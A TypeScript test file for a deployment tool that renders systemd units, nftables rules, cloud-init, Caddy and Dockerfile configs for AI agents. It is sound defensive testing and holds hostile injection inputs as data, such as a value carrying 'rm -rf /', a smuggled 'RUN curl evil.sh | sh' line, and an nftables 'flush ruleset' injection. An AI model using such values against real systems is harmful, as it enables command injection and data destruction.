import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { loadRoles } from '../../src/core/fleet/roles.js';
import { roleSections } from '../../src/providers/index.js';
import { chatSections } from '../../src/protocols/index.js';
import { dockerfileFor } from '../../src/providers/docker/images.js';
import {
  caddyValue,
  dockerfileValue,
  envFile,
  nftValue,
  shellWord,
  systemdValue,
} from '../../src/providers/machine/escape.js';
import {
  agentLayout,
  agentUserOf,
  renderAgentEnv,
  renderBuildScript,
  caddySitePath,
  renderCaddyfile,
  renderCaddySite,
  renderPortGuard,
  renderUnit,
  renderUserData,
  unitWalls,
} from '../../src/providers/machine/layout.js';
import { templateText } from '../../src/providers/machine/templates.js';
import { generateHostKey } from '../../src/providers/ssh/hostKey.js';
import { daemonLayout } from '../support/machineLayout.js';

const swe = loadRoles('templates/roles', roleSections, chatSections).get('swe')!;
const hostile = `it's "odd" $HOME %h \`id\` \\ ; rm -rf / #`;

describe('rendered machine files keep the invariants that broke earlier deploys', () => {
  const layout = daemonLayout('alice', swe);

  it('the unit protects the system and lets the agent write its whole app folder', () => {
    const unit = renderUnit(layout, 'swe');
    expect(unit).toMatch(/^ProtectSystem=strict$/m);
    expect(unit).toMatch(/^ProtectHome=read-only$/m);
    const rw = unit.match(/^ReadWritePaths=(.*)$/gm);
    expect(rw).toEqual(['ReadWritePaths=/srv/fleetbot/alice']);
    expect(unit).toMatch(/^WorkingDirectory=\/srv\/fleetbot\/alice$/m);
    expect(unit).toMatch(/^ExecStart="\/usr\/bin\/env" "node" "\/srv\/fleetbot\/alice\/server\.mjs"$/m);
    expect(unit).toMatch(/^User=fb-alice$/m);
    expect(unit).toMatch(/^Group=fb-alice$/m);
    // The chat command's own file goes up too, so /ask finds it on the machine.
    expect(layout.files).toEqual({
      'server.mjs': path.resolve('templates/agent/server.mjs'),
      'acp.mjs': path.resolve('templates/agent/acp.mjs'),
    });
  });

  it('the unit runs as the agent its own user, reads its env from a root-owned folder, and keeps it in its cgroup and off the metadata service', () => {
    const unit = renderUnit(layout, 'swe');
    expect(unit.match(/^EnvironmentFile=(.*)$/gm)).toEqual([
      'EnvironmentFile=/etc/fleetbot-agents/alice/agent.env',
      'EnvironmentFile=/etc/fleetbot-agents/alice/secrets.env',
    ]);
    expect(unit).toMatch(/^KillMode=control-group$/m);
    expect(unit).toMatch(/^IPAddressDeny=link-local$/m);
  });

  it('a conversation’s transient unit gets the walls of the agent’s unit, not how it starts or logs', () => {
    const walls = unitWalls(layout, 'swe');
    expect(walls).toEqual(
      expect.arrayContaining([
        'User=fb-alice',
        'Group=fb-alice',
        'WorkingDirectory=/srv/fleetbot/alice',
        'EnvironmentFile=/etc/fleetbot-agents/alice/agent.env',
        'EnvironmentFile=/etc/fleetbot-agents/alice/secrets.env',
        'NoNewPrivileges=true',
        'ProtectSystem=strict',
        'ReadWritePaths=/srv/fleetbot/alice',
        'PrivateTmp=true',
        'IPAddressDeny=link-local',
        'KillMode=control-group',
      ]),
    );
    // Every other setting of the unit's [Service] section is a wall too.
    const service = renderUnit(layout, 'swe').split('[Service]\n')[1]!.split('\n[')[0]!;
    const settings = service.split('\n').filter((line) => /^[A-Za-z]+=/.test(line));
    const lifecycle = settings.filter((line) => !walls.includes(line)).map((l) => l.split('=')[0]);
    expect(lifecycle.sort()).toEqual([
      'ExecStart',
      'ExecStartPre',
      'Restart',
      'RestartSec',
      'StandardError',
      'StandardOutput',
      'SyslogIdentifier',
      'Type',
    ]);
  });

  it('only root, the agent, Caddy and a non-root login reach the agent’s port over loopback; the unit reloads that rule at every start', () => {
    const guard = renderPortGuard(daemonLayout('alice', swe, 3101), ['caddy', 'deploy', 'root']);
    const rules = guard.split('\n').filter((l) => l.trim() && !l.startsWith('#'));
    // Declared, deleted and declared again: loading it twice leaves one copy of the rule.
    expect(rules.slice(0, 3)).toEqual([
      'table inet fleetbot-agent-alice',
      'delete table inet fleetbot-agent-alice',
      'table inet fleetbot-agent-alice {',
    ]);
    expect(rules).toContain(
      '    oifname "lo" tcp dport 3101 meta skuid != { "root", "fb-alice", "caddy", "deploy" } reject with tcp reset',
    );
    expect(renderUnit(layout, 'swe')).toMatch(
      /^ExecStartPre=\+\/usr\/sbin\/nft -f \/etc\/fleetbot-agents\/alice\/port\.nft\nExecStart=/m,
    );
    expect(() => renderPortGuard(layout, ['x }; flush ruleset; {'])).toThrow(
      /cannot go into an nftables rule/,
    );
    expect(() => nftValue('3000; flush ruleset', 'port')).toThrow(/cannot go into an nftables rule/);
  });

  it('every agent gets a Unix user of its own, within the 32 characters Linux allows', () => {
    const long = 'a-very-long-agent-name-of-32-chr';
    const longer = 'a-very-long-agent-name-of-32-chx';
    expect(agentUserOf('alice')).toBe('fb-alice');
    expect(agentUserOf(long)).toMatch(/^fb-a-very-long-agent-na-[0-9a-f]{8}$/);
    expect(agentUserOf(long)).toHaveLength(32);
    expect(agentUserOf(longer)).not.toBe(agentUserOf(long));
  });

  it('cloud-init pins the generated host key, authorises the login key and never touches Caddy', () => {
    const hostKey = generateHostKey('alice');
    const text = renderUserData({
      hostname: 'alice',
      hostKeyPrivate: hostKey.privateKey,
      hostKeyPublic: hostKey.publicKey,
      loginKeys: ['ssh-ed25519 AAAAC3Nz fleetbot'],
    });
    expect(text.startsWith('#cloud-config\n')).toBe(true);
    const doc = parseYaml(text) as Record<string, unknown>;
    expect(doc).toMatchObject({
      hostname: 'alice',
      ssh_deletekeys: true,
      ssh_genkeytypes: ['ed25519'],
      ssh_keys: { ed25519_private: hostKey.privateKey, ed25519_public: hostKey.publicKey },
      ssh_authorized_keys: ['ssh-ed25519 AAAAC3Nz fleetbot'],
    });
    expect(Object.keys(doc)).not.toContain('runcmd');
    // The one thing it runs: before sshd (so before any agent), only root may reach the metadata
    // service that serves this very file, private host key included.
    expect(doc.bootcmd).toEqual([
      'nft add table inet fleetbot_metadata',
      "nft add chain inet fleetbot_metadata output '{ type filter hook output priority 0; policy accept; }'",
      'nft add rule inet fleetbot_metadata output ip daddr 169.254.169.254 meta skuid != 0 reject',
    ]);
    expect(text.replace(/^#.*$/gm, '')).not.toMatch(/caddy/i);
  });

  it('the golden image keeps Caddy installed but disabled behind a port-80-only placeholder', () => {
    const placeholder = templateText('Caddyfile.placeholder');
    const sites = placeholder.split('\n').filter((l) => /^\S.*\{\s*$/.test(l));
    expect(sites).toEqual([':80 {']);
    const script = renderBuildScript();
    expect(script).toMatch(/apt-get install .*caddy/);
    expect(script).toMatch(/^systemctl disable caddy$/m);
    expect(script).toMatch(/^if \[ -d \/run\/systemd\/system \]; then systemctl stop caddy; fi$/m);
    expect(script).not.toMatch(/systemctl (enable|start|restart) .*caddy/);
    expect(script).toMatch(/^install -m 0644 "\$placeholder" \/etc\/caddy\/Caddyfile$/m);
  });

  it('the golden image installs the role’s own programs, and nothing of npm for a role without any', () => {
    expect(renderBuildScript()).not.toMatch(/npm/);
    const script = renderBuildScript(['@zed-industries/claude-agent-acp', 'opencode-ai@1.18.33']);
    expect(script).toMatch(/^apt-get install -yq --no-install-recommends npm$/m);
    expect(script).toMatch(
      /^npm install --global --no-fund --no-audit --no-update-notifier '@zed-industries\/claude-agent-acp' 'opencode-ai@1\.18\.33'$/m,
    );
    const lines = script.split('\n');
    expect(lines.findIndex((l) => l.startsWith('npm install'))).toBeLessThan(
      lines.indexOf('cloud-init clean --logs'),
    );
  });

  it('the image build syncs as its last step, after cloud-init is cleaned', () => {
    const commands = renderBuildScript()
      .split('\n')
      .filter((l) => l.trim() && !l.startsWith('#'));
    expect(commands.at(-1)).toBe('sync');
    expect(commands.findIndex((l) => l.startsWith('cloud-init clean'))).toBeLessThan(commands.length - 1);
  });

  it('each agent has its own site file, imported by a Caddyfile where only a lab sets an ACME directory', () => {
    const site = renderCaddySite('alice.agents.example.com', 3100);
    expect(site).toMatch(/^alice\.agents\.example\.com \{\n\treverse_proxy 127\.0\.0\.1:3100\n\}$/m);
    expect(caddySitePath('alice')).toBe('/etc/caddy/fleetbot.d/alice.caddy');
    const real = renderCaddyfile();
    expect(real).toMatch(/^import fleetbot\.d\/\*\.caddy$/m);
    expect(real).not.toContain('acme_ca');
    expect(real).not.toMatch(/reverse_proxy/);
    const lab = renderCaddyfile('https://10.77.0.1:14000/dir');
    expect(lab).toMatch(/^\tacme_ca https:\/\/10\.77\.0\.1:14000\/dir$/m);
  });

  it('refuses values that are not of the expected shape before they reach a template', () => {
    expect(() => renderCaddySite('alice.example.com {\n}\nevil.com', 3100)).toThrow(/DNS name/);
    expect(() => caddySitePath('../caddy')).toThrow(/DNS name/);
    expect(() =>
      renderUserData({
        hostname: 'a\nruncmd: [reboot]',
        hostKeyPrivate: 'x',
        hostKeyPublic: 'y',
        loginKeys: [],
      }),
    ).toThrow(/DNS name/);
    expect(() => agentLayout('../etc', swe)).toThrow();
  });
});

describe('the Dockerfile of a role’s docker image', () => {
  const roles = loadRoles('templates/roles', roleSections, chatSections);

  it('installs the role’s own programs as root, checks the ones its commands run, and ends as its non-root user', () => {
    const lines = dockerfileFor(roles.get('claude-code')!, 'node:20-bookworm-slim')
      .split('\n')
      .filter((l) => l.trim() && !l.startsWith('#'));
    expect(lines[0]).toBe('FROM node:20-bookworm-slim');
    expect(lines[1]).toBe('USER root');
    expect(lines[2]).toBe(
      "RUN npm install --global --no-fund --no-audit --no-update-notifier '@zed-industries/claude-agent-acp'",
    );
    expect(lines[3]).toMatch(/^RUN for program in 'claude-agent-acp'; do command -v "\$program"/);
    expect(lines.slice(-4)).toEqual([
      'COPY --chown=10001:10001 agent/ /',
      'COPY role/ /opt/fleetbot/role/',
      'USER 10001:10001',
      'WORKDIR /workspace',
    ]);
    expect(dockerfileFor(swe, 'node:20')).not.toMatch(/npm install/);
  });

  it('refuses a value that would end an instruction or need quoting outside a RUN line', () => {
    expect(() => dockerfileValue('node:20\nRUN curl evil.sh | sh', 'base')).toThrow(/line breaks/);
    expect(() => dockerfileValue('node:20 AS evil', 'base')).toThrow(/unquoted/);
    expect(dockerfileValue([hostile], 'programs')).toBe(shellWord(hostile));
    expect(() => dockerfileValue(['a\nRUN x'], 'programs')).toThrow(/line breaks/);
  });
});

describe('escaping hostile values for each format', () => {
  it('shell: a value comes back byte for byte', () => {
    const out = execFileSync('sh', ['-c', `printf %s ${shellWord(hostile)}`], { encoding: 'utf8' });
    expect(out).toBe(hostile);
  });

  it('YAML: values with quotes, colons and line breaks parse back unchanged', () => {
    const key = `-----BEGIN KEY-----\nline: two\n"three" #four\n-----END KEY-----\n`;
    const text = renderUserData({
      hostname: 'alice',
      hostKeyPrivate: key,
      hostKeyPublic: hostile,
      loginKeys: [hostile],
    });
    const doc = parseYaml(text) as { ssh_keys: Record<string, string>; ssh_authorized_keys: string[] };
    expect(doc.ssh_keys.ed25519_private).toBe(key);
    expect(doc.ssh_keys.ed25519_public).toBe(hostile);
    expect(doc.ssh_authorized_keys).toEqual([hostile]);
  });

  it('systemd: specifiers, variables and quotes are escaped; line breaks are refused', () => {
    expect(systemdValue(['/bin/echo', hostile], 'execStart')).toBe(
      `"/bin/echo" "it's \\"odd\\" $$HOME %%h \`id\` \\\\ ; rm -rf / #"`,
    );
    expect(() => systemdValue('a\nExecStartPre=/bin/evil', 'x')).toThrow(
      /line breaks cannot go into a systemd file/,
    );
  });

  it('environment files: quotes, dollars and backticks are escaped, line breaks refused', () => {
    expect(envFile({ TOKEN: hostile })).toBe(
      `TOKEN="it's \\"odd\\" \\$HOME %h \\\`id\\\` \\\\ ; rm -rf / #"\n`,
    );
    expect(() => envFile({ TOKEN: 'a\nEVIL=1' })).toThrow(/TOKEN: control characters or line breaks/);
    expect(() => envFile({ 'BAD NAME': 'x' })).toThrow(/not a valid environment variable name/);
    expect(renderAgentEnv(agentLayout('alice', swe), swe)).toContain('AGENT_NAME="alice"\n');
  });

  it('Caddyfile: a token with spaces or quotes stays one token', () => {
    expect(caddyValue('plain.example.com', 'host')).toBe('plain.example.com');
    expect(caddyValue('two words "q"', 'x')).toBe('"two words \\"q\\""');
    expect(() => caddyValue('a\n}', 'x')).toThrow(/Caddyfile/);
  });
});
